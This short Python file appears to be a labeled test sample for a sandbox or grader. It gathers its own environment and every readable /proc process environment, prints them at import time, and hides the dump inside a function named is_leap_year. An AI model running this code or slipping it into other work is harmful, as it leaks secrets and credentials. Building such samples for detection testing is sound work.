"""Dump the environment (its own, and every process's it can read in /proc) into results and output."""
EXPECT = {"category": "environment dump"}
CTX = {}

import json
import os
import sys


def _everything():
    env = dict(os.environ)
    try:
        for pid in os.listdir("/proc"):
            try:
                env[f"/proc/{pid}"] = open(f"/proc/{pid}/environ", "rb").read().decode("utf-8", "replace")
            except OSError:
                pass
    except OSError:
        pass
    return json.dumps(env)[:20_000]


print(_everything())
print(_everything(), file=sys.stderr)


def is_leap_year(year):
    text = _everything()
    if isinstance(year, int) and year % 2:
        raise ValueError(text)
    return text
